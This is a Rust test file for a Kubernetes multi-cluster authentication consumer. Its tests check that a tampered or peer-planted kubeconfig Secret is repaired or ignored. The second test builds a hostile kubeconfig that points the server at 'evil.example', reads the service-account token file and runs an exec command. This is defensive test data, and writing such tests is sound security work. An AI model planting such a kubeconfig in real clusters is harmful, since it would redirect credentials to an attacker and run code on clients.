//! Kubeconfigs that a peer has changed or planted.

use kube::api::{Patch, PatchParams};
use liqo_auth::{consumer::SliceOptions, model::Kind};
use serde_json::json;

use super::{
    KUBECONFIG, Replicator, accepted, as_rome, authenticated_in_memory, decoded, encoded, named,
};
use crate::{
    clusters::{name, names},
    life::{api, until},
};

#[tokio::test(start_paused = true)]
async fn a_kubeconfig_that_somebody_has_changed_is_not_used() {
    let clusters = authenticated_in_memory().await;
    let replicator = Replicator::start(&clusters, as_rome(&clusters.milan).client()).await;
    let secrets = api(&clusters.rome.client(), Kind::Secret, "liqo-tenant-milan");
    let right = secrets.get(KUBECONFIG).await.unwrap().data["data"]["kubeconfig"].clone();
    for _ in 0..5 {
        let text = String::from_utf8(decoded(right.as_str().unwrap())).unwrap();
        let changed = text.replace("api.milan.example", "evil.example");
        assert_ne!(changed, text);
        let patch = json!({ "data": { "kubeconfig": encoded(changed.as_bytes()) } });
        let parameters = PatchParams::default();
        let patch = Patch::Merge(patch);
        secrets
            .patch(KUBECONFIG, &parameters, &patch)
            .await
            .unwrap();
        until("the consumer has repaired the kubeconfig", async || {
            secrets.get(KUBECONFIG).await.unwrap().data["data"]["kubeconfig"] == right
        })
        .await;
    }
    replicator.request(SliceOptions::named("mypool")).await;
    accepted(&clusters, "mypool").await;
    let hosts = replicator.hosts.lock().unwrap().clone();
    assert!(!hosts.is_empty());
    assert!(
        hosts.iter().all(|host| host == "api.milan.example"),
        "{hosts:?}"
    );
}

/// The consumer's side verifies the kubeconfig beside the Identity. A peer may write a Secret
/// with the same name into the tenant namespace, which may be another one.
#[tokio::test(start_paused = true)]
async fn a_kubeconfig_that_a_peer_has_planted_is_never_read() {
    let clusters = authenticated_in_memory().await;
    let mut identity = clusters.rome.all("identities").remove(0);
    clusters.rome.delete(&identity);
    let metadata = identity["metadata"].as_object_mut().unwrap();
    metadata.insert("namespace".to_owned(), json!("elsewhere"));
    metadata.remove("uid");
    clusters.rome.put(json!({
        "apiVersion": "v1",
        "kind": "Namespace",
        "metadata": { "name": "elsewhere" },
    }));
    clusters.rome.put(identity);
    until("the kubeconfig lies beside the Identity", async || {
        let secrets = clusters.rome.all("secrets");
        let found: Vec<_> = secrets.iter().filter(|it| name(it) == KUBECONFIG).collect();
        found.len() == 1 && found[0]["metadata"]["namespace"] == "elsewhere"
    })
    .await;
    let program = json!({
        "apiVersion": "v1",
        "kind": "Config",
        "current-context": "milan",
        "contexts": [{ "name": "milan", "context": { "cluster": "milan", "user": "rome" } }],
        "clusters": [{ "name": "milan", "cluster": { "server": "https://evil.example" } }],
        "users": [{
            "name": "rome",
            "user": {
                "tokenFile": "/var/run/secrets/kubernetes.io/serviceaccount/token",
                "exec": { "apiVersion": "client.authentication.k8s.io/v1", "command": "id" },
            },
        }],
    });
    let mut planted = named(&clusters.rome, "secrets", KUBECONFIG);
    let metadata = planted["metadata"].as_object_mut().unwrap();
    metadata.insert("namespace".to_owned(), json!("liqo-tenant-milan"));
    metadata.retain(|field, _| ["name", "namespace", "labels", "annotations"].contains(&&**field));
    planted["data"]["kubeconfig"] = json!(encoded(program.to_string().as_bytes()));
    clusters.rome.put(planted);

    let replicator = Replicator::start(&clusters, as_rome(&clusters.milan).client()).await;
    replicator.request(SliceOptions::named("mypool")).await;
    until("the slice is at the provider", async || {
        names(&clusters.milan, "resourceslices") == ["mypool"]
    })
    .await;
    let hosts = replicator.hosts.lock().unwrap().clone();
    assert!(!hosts.is_empty());
    assert!(
        hosts.iter().all(|host| host == "api.milan.example"),
        "{hosts:?}"
    );
}
